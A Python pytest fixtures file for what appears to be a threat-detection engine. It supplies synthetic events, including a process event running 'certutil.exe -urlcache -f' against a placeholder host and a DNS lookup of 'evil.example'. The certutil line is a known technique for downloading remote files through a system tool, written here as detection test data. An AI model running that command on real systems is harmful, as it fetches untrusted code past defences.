"""Fixtures of the engine tests (their data lives in engine_support)."""

import pytest
from engine_support import event


@pytest.fixture
def certutil():
    return event(
        "process",
        process={
            "name": "certutil.exe",
            "args": ["certutil.exe", "-urlcache", "-f", "http://x/a"],
            "command_line": "certutil.exe -urlcache -f http://x/a",
            "pid": 4000,
        },
    )


@pytest.fixture
def bad_dns():
    return event("network", dns={"question": {"name": "evil.example"}})
